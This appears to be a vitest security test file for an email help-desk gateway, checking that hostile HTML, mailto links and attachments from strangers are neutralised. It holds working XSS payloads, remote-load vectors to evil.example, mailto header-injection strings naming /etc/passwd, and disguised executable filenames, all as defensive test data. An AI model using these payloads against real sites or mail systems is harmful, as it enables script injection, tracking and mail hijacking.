import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readOrders } from '../../src/desk/commands/read-commands.ts';
import { harmless, isRenamed } from '../../src/mail/active-content.ts';
import { VOCABULARY } from '../support/desk.ts';
import { onlyTo, startTestGateway, type TestGateway } from '../support/gateway.ts';
import { startBrowser, type TestBrowser } from '../support/browser.ts';
import { available } from '../support/servers.ts';

/** What strangers put into HTML to be run, loaded or believed. */
const HOSTILE = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>',
  '<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="data:text/html,<script>opener.pwned=1</script>"></object>',
  '<a href="javascript:window.pwned=1" autofocus onfocus="window.pwned=1">click</a>',
  '<a href=" &#106;avascript:window.pwned=1">click</a>',
  '<form action="http://evil.example/"><input autofocus onfocus="window.pwned=1"></form>',
  '<details open ontoggle="window.pwned=1">x</details>',
  '<body onload="window.pwned=1" background="http://evil.example/b.png">hello',
  '<style>@import "http://evil.example/a.css"; body{background:url(http://evil.example/c.png)}</style>text',
  '<link rel="stylesheet" href="http://evil.example/d.css"><base href="http://evil.example/">text',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/e">text',
  '<img src="http://evil.example/pixel.png" width=1 height=1 srcset="http://evil.example/2x.png 2x">text',
  '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4" autoplay></video>text',
  '<div style="background:url(http://evil.example/f.png);position:fixed;top:0;width:100%;height:100%">over all</div>',
  '<table background="http://evil.example/g.png"><tr><td>cell</td></tr></table>',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '<p>a</p><!--><img src=x onerror=window.pwned=1>-->',
  '<template><img src=x onerror=window.pwned=1></template><slot>text</slot>',
  '<xmp><img src=x onerror=window.pwned=1></xmp><plaintext><script>window.pwned=1</script>',
  '<p>{{constructor.constructor "window.pwned=1"}} {{{lookup this "x"}}}</p>',
] as const;

function letterWith(html: string, part: number): string {
  return [
    // One of many: a flood of one sender would land in one ticket.
    `From: "<img src=x onerror=window.pwned=1>" <carla${part}@customer.example>`,
    'To: support@desk.example',
    `Subject: <script>window.pwned=1</script> ${part}`,
    `Message-ID: <hostile-${part}@customer.example>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<p>Hello desk ${part}</p>${html}`,
    '',
  ].join('\r\n');
}

describe.skipIf(!available('chromium'))('HTML of strangers', () => {
  let desk: TestGateway;
  let browser: TestBrowser;
  beforeAll(async () => {
    [desk, browser] = await Promise.all([startTestGateway(), startBrowser()]);
  });
  afterAll(async () => {
    await Promise.all([desk.stop(), browser.close()]);
  });

  test('the browser of these tests would notice what they look for', async () => {
    const seen = await browser.view('<script>window.pwned=1</script><img src="http://evil.example/x.png">');
    expect(seen.ran).toBe(true);
    expect(seen.requests).toEqual(['http://evil.example/x.png']);
    expect(seen.active).toEqual(['script', 'img']);
  });

  test.each(HOSTILE.map((html, part) => [html, part] as const))(
    'runs nothing and loads nothing before the agent who reads of it (T-23, T-24): %s',
    async (html, part) => {
      await desk.sendRaw(letterWith(html, part), {
        from: `carla${part}@customer.example`,
        to: 'support@desk.example',
      });
      const sent = await desk.sent();
      for (const to of ['anna@agents.example', `carla${part}@customer.example`]) {
        const { mail } = onlyTo(sent, to);
        const seen = await browser.view(String(mail.html));
        expect(seen).toMatchObject({ ran: false, requests: [], dialogs: [], active: [] });
        expect(seen.text).toContain(`Hello desk ${part}`);
      }
    },
  );

  test.each([
    '?bcc=eve@evil.example&cc=eve@evil.example&attach=/etc/passwd',
    '%0d%0aBcc:%20eve@evil.example%0d%0a%0d%0a',
    '=?utf-8?Q?x=0D=0ABcc:_eve=40evil.example?=',
    '"><a href="mailto:eve@evil.example?body=%23spam">click</a>',
    '&body=%23spam%0a&subject=#spam',
    '&#38;bcc=eve@evil.example&amp;bcc=eve@evil.example',
    '\u2028#spam\u0085#spam #spam',
  ])(
    'what is to be clicked on writes to us alone, with our command and nothing of theirs in front: %j (T-16, T-23)',
    async (subject) => {
      const raw = `From: "${subject.replaceAll('"', "'")}" <eve${subject.length}@evil.example>\r\nTo: support@desk.example\r\nSubject: ${subject}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n#spam\r\n${subject}\r\n`;
      await desk.sendRaw(raw, { from: `eve${subject.length}@evil.example`, to: 'support@desk.example' });
      const { mail } = onlyTo(await desk.sent(), 'anna@agents.example');
      const links = await browser.links(String(mail.html));
      expect(links.length).toBeGreaterThan(0);
      for (const link of links) {
        const { protocol, pathname, searchParams } = new URL(link);
        expect([link, protocol]).toEqual([link, 'mailto:']);
        expect(decodeURIComponent(pathname)).toMatch(/^support\+t\d+\.a-anna\.[a-z0-9.]+@desk\.example$/);
        const keys = [...searchParams.keys()];
        expect([...new Set(keys)]).toEqual(keys);
        expect(keys.filter((key) => key !== 'subject' && key !== 'body')).toEqual([]);
        expect(searchParams.get('subject') ?? '').not.toMatch(/[\r\n\u2028\u2029\u0085]/);
        const [order] = readOrders(searchParams.get('body') ?? '', VOCABULARY);
        expect(order?.commands.map(({ line }) => line)).not.toContain('#spam');
      }
    },
  );

  test('what it hides, the agent sees (T-25)', async () => {
    const html =
      '<p>Visible</p><div style="display:none">hidden order</div><span style="font-size:0">tiny</span>';
    await desk.sendRaw(letterWith(html, 99), {
      from: 'carla99@customer.example',
      to: 'support@desk.example',
    });
    const seen = await browser.view(String(onlyTo(await desk.sent(), 'anna@agents.example').mail.html));
    expect(seen.text).toContain('hidden order');
    expect(seen.text).toContain('tiny');
  });
});

describe('files of strangers', () => {
  test('a page without a name, as of a mail whose HTML is too large to be read, gets one that is not hidden (T-23)', () => {
    const page = harmless({ name: '', type: 'text/html' });
    expect(page).toEqual({ name: 'page.html.txt', type: 'text/plain' });
    expect(isRenamed(page.name)).toBe(true);
  });

  test('reach the agent under names and types that nothing opens by itself (T-23, T-64)', async () => {
    const desk = await startTestGateway();
    try {
      await desk.send({
        from: 'Carla <carla@customer.example>',
        to: 'support@desk.example',
        attachments: [
          { filename: 'page.html', content: '<script>alert(1)</script>', contentType: 'text/html' },
          { filename: 'picture.png', content: '<svg onload=alert(1)>', contentType: 'image/svg+xml' },
          { filename: 'invoice.pdf.lnk ', content: 'x', contentType: 'application/pdf' },
          { filename: 'setup.EXE...', content: 'MZ', contentType: 'application/octet-stream' },
          {
            filename: 'sheet.xlsx',
            content: 'PK',
            contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
          },
          { filename: 'log.txt', content: 'plain', contentType: 'text/plain' },
        ],
      });
      const { mail } = onlyTo(await desk.sent(), 'anna@agents.example');
      expect(mail.attachments.map(({ filename, contentType }) => [filename, contentType])).toEqual([
        ['page.html.txt', 'text/plain'],
        ['picture.png.txt', 'text/plain'],
        ['invoice.pdf.lnk.unsafe', 'application/octet-stream'],
        ['setup.EXE....unsafe', 'application/octet-stream'],
        ['sheet.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
        ['log.txt', 'text/plain'],
      ]);
      expect(mail.text).toContain('Careful: page.html.txt, ');
      expect(mail.text).not.toContain('Careful: sheet');
    } finally {
      await desk.stop();
    }
  });
});
